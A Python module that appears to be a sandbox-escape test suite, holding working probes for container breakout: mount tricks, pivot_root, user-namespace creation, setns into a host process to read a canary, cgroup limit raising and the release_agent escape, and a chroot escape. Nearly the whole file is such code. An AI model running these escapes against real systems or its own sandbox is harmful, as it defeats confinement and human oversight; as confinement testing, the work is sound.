"""Mounts, namespaces, cgroups."""
import ctypes
import glob
import os

from kit import Absent, Stopped, attack, call, first, in_child, libc, overwrite, syscall, text

MS_RDONLY, MS_REMOUNT, MS_BIND, MNT_DETACH = 1, 32, 4096, 2
AT_FDCWD = -100
NEWNS, NEWCGROUP, NEWUTS, NEWIPC, NEWUSER, NEWPID, NEWNET = (
    0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000)


def here():
    path = "/workspace/point"
    os.makedirs(path, exist_ok=True)
    return path


def mount(source, target, kind, flags=0, options=""):
    call("mount", text(source), text(target), text(kind), flags, text(options))
    return kind + " on " + target


@attack("mount.tmpfs")
def tmpfs(_):
    return mount("none", here(), "tmpfs")


@attack("mount.bind-over-etc")
def over_etc(_):
    return mount("/slot/workspace", "/etc", "", MS_BIND)


@attack("mount.remount-root")
def remount(_):
    # The control's root is made read-only first, so that there is something to undo.
    return mount("none", "/", "", MS_REMOUNT | MS_BIND)


@attack("mount.umount-sockets")
def umount(_):
    call("umount2", text("/run/helm"), MNT_DETACH)
    return "/run/helm taken away"


@attack("mount.proc-again")
def proc_again(_):
    return mount("proc", here(), "proc")


@attack("mount.overlay")
def overlay(_):
    for name in "low", "up", "work":
        os.makedirs("/tmp/o/" + name, exist_ok=True)
    return mount("overlay", here(), "overlay", 0, "lowerdir=/etc,upperdir=/tmp/o/up,workdir=/tmp/o/work")


@attack("mount.pivot-root")
def pivot(_):
    def turn():
        call("unshare", NEWNS)
        mount("none", "/", "", 1 << 18 | 16384)  # private, recursive
        mount("none", here(), "tmpfs")
        os.mkdir(here() + "/old")
        syscall("pivot_root", text(here()), text(here() + "/old"))
        return "new root holds " + ",".join(os.listdir("/"))
    try:
        syscall("pivot_root", text("/tmp"), text("/tmp"))
    except OSError as e:
        if e.errno == 1:
            raise
    return in_child(turn)


@attack("mount.fsopen")
def fsopen(_):
    fd = syscall("fsopen", text("tmpfs"), 0)
    syscall("fsconfig", fd, 6, None, None, 0)  # FSCONFIG_CMD_CREATE
    tree = syscall("fsmount", fd, 0, 0)
    syscall("move_mount", tree, text(""), AT_FDCWD, text(here()), 4)
    return "tmpfs by fsopen, fsmount, move_mount"


@attack("mount.open-tree")
def open_tree(_):
    tree = syscall("open_tree", AT_FDCWD, text("/slot"), 1)  # OPEN_TREE_CLONE
    syscall("move_mount", tree, text(""), AT_FDCWD, text(here()), 4)
    return "/slot a second time"


@attack("mount.setattr")
def setattr_(_):
    class Attributes(ctypes.Structure):
        _fields_ = [(n, ctypes.c_uint64) for n in ("set", "clear", "propagation", "userns")]
    wanted = Attributes(0, 1, 0, 0)  # clears read-only
    syscall("mount_setattr", AT_FDCWD, text("/run/helm"), 0, ctypes.byref(wanted), ctypes.sizeof(wanted))
    return "/run/helm is writable"


def unshared(flags):
    def leave():
        call("unshare", flags)
        return "unshared %x" % flags
    return in_child(leave)


@attack("ns.user")
def user(_):
    return unshared(NEWUSER)


@attack("ns.user-and-mount")
def user_and_mount(_):
    def root_inside():
        call("unshare", NEWUSER | NEWNS)
        mount("none", "/tmp", "tmpfs")
        return "a tmpfs mounted as root of an own user namespace"
    return in_child(root_inside)


@attack("ns.net-mount-pid")
def others(_):
    return first((NEWNS, NEWNET, NEWPID, NEWIPC, NEWUTS, NEWCGROUP), unshared)


@attack("ns.clone")
def clone(_):
    def child():
        pid = syscall("clone", NEWUSER | 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        return "clone made a user namespace"
    return in_child(child)


@attack("ns.clone3")
def clone3(_):
    def child():
        arguments = (ctypes.c_uint64 * 8)(NEWUSER, 0, 0, 0, 17, 0, 0, 0)
        pid = syscall("clone3", ctypes.byref(arguments), ctypes.sizeof(arguments))
        if pid == 0:
            os._exit(0)
        return "clone3 made a user namespace"
    return in_child(child)


@attack("ns.setns-host")
def setns(given):
    """Into the mount namespace of a process of the host, there to read the canary."""
    def enter(pid):
        def inside():
            fd = os.open("/proc/%d/ns/mnt" % pid, os.O_RDONLY)
            call("setns", fd, NEWNS)
            return open(given["canary"]).read()
        return in_child(inside)
    return first((given["hostPid"], 1, os.getppid()), enter)


LIMITS = {
    "pids.max": "max", "memory.max": "max", "memory.limit_in_bytes": "-1", "cpu.max": "max",
    "cpu.cfs_quota_us": "-1", "memory.memsw.limit_in_bytes": "-1", "devices.allow": "a",
}


@attack("cgroup.raise-limits")
def raise_limits(_):
    def one(path):
        overwrite(path, LIMITS[os.path.basename(path)])
        return path
    raised = []
    last = Stopped("no limit file is to be seen")
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name in LIMITS:
                try:
                    raised.append(one(os.path.join(folder, name)))
                except OSError as e:
                    last = e
    if not raised:
        raise last
    return ",".join(raised)


@attack("cgroup.leave")
def leave_cgroup(_):
    """Makes a group of its own, or moves to a parent's."""
    def one(folder):
        path = os.path.join(folder, "probe")
        os.mkdir(path)
        os.rmdir(path)
        return path
    return first([f for f, _, names in os.walk("/sys/fs/cgroup") if "cgroup.procs" in names], one)


@attack("cgroup.release-agent")
def release_agent(_):
    """The classic way out: a hierarchy of one's own, whose release agent the kernel runs as root."""
    point = here()
    if "\tcgroup\n" not in open("/proc/filesystems").read():
        raise Absent("this kernel has cgroups of version 2 only")
    first(("none,name=helmprobe", "memory", "rdma", "pids"),
          lambda options: mount("cgroup", point, "cgroup", 0, options))
    try:
        if not os.path.exists(point + "/release_agent"):
            raise Stopped("mounted, without a release agent")
        if "helmprobe" in open("/proc/self/cgroup").read():
            overwrite(point + "/release_agent", "/slot/workspace/probe.py")
            return "release_agent is " + open(point + "/release_agent").read().strip()
        return "mounted"
    finally:
        libc.umount2(text(point), MNT_DETACH)


@attack("cgroup.mount-v2")
def mount_v2(_):
    return mount("none", here(), "cgroup2")


@attack("ns.chroot")
def chroot(_):
    def out():
        os.makedirs("/tmp/c", exist_ok=True)
        os.chroot("/tmp/c")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return "in and out of a chroot, root holds " + str(len(os.listdir("/")))
    return in_child(out)
